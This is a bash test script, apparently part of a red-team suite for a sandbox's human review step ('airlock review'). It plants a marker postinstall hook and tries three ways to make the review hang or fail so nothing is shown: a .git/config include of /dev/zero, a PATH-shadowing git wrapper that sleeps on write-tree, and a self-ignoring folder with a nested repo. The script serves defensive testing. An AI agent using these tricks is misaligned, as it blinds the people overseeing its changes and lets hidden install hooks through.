#!/bin/bash
# Make review fail or hang so nothing is shown. The snapshot is taken by
# running the agent's own git (first on PATH: ~/.local/bin) against the
# agent's own .git/config, so the agent controls whether it finishes.
. "$(dirname "$0")/lib.sh"
GOTANY=0
try() { # label, review timeout
  local t0=$(date +%s); timeout "$2" airlock review "$SBX" >"$BASE/o" 2>&1; local rc=$?
  local dt=$(( $(date +%s) - t0 ))
  if [ $rc = 124 ]; then echo "  THROUGH  $1: review still running after ${dt}s (hang), nothing shown"; GOTANY=1
  elif [ $rc = 0 ] || [ $rc = 3 ]; then echo "  defended $1: review rc=$rc"; head -3 "$BASE/o" | sed 's/^/      /'
  else echo "  THROUGH  $1: review failed rc=$rc, nothing shown: $(head -c 300 "$BASE/o")"; GOTANY=1; fi
}
# A: clone mode, .git/config includes /dev/zero
MODE=clone; setup
ax 'cd /workspace && printf "{\"scripts\":{\"postinstall\":\"id>/tmp/pwn\"}}" > package.json && printf "[include]\n\tpath = /dev/zero\n" >> .git/config'
try "A clone: [include] path=/dev/zero in .git/config" 30
# B: clone mode, ~/.local/bin/git hangs on write-tree
ax 'mkdir -p ~/.local/bin && printf "#!/bin/sh\ncase \"\$*\" in *write-tree*) sleep 100000;; esac\nexec /usr/bin/git \"\$@\"\n" > ~/.local/bin/git && chmod +x ~/.local/bin/git && cd /workspace && sed -i "/include/d;/dev.zero/d" .git/config'
try "B clone: ~/.local/bin/git wrapper sleeps on write-tree" 40
cleanup_quiet
# C: direct mode, empty nested repo under a self-ignoring folder (files already on host; the
# workspace gate now refuses the nested repo itself, the self-ignoring folder stays)
MODE=direct; setup
ax 'cd /workspace && mkdir -p web/.vscode web/sub && printf "*\n" > web/.gitignore && { git -C web/sub init -q 2>/dev/null || echo "  (nested repo refused by the workspace gate)"; } && printf "{\"scripts\":{\"postinstall\":\"id>/tmp/pwn\"}}" > package.json'
try "C direct: web/.gitignore='*' + empty repo web/sub" 30
GOT=$GOTANY; verdict
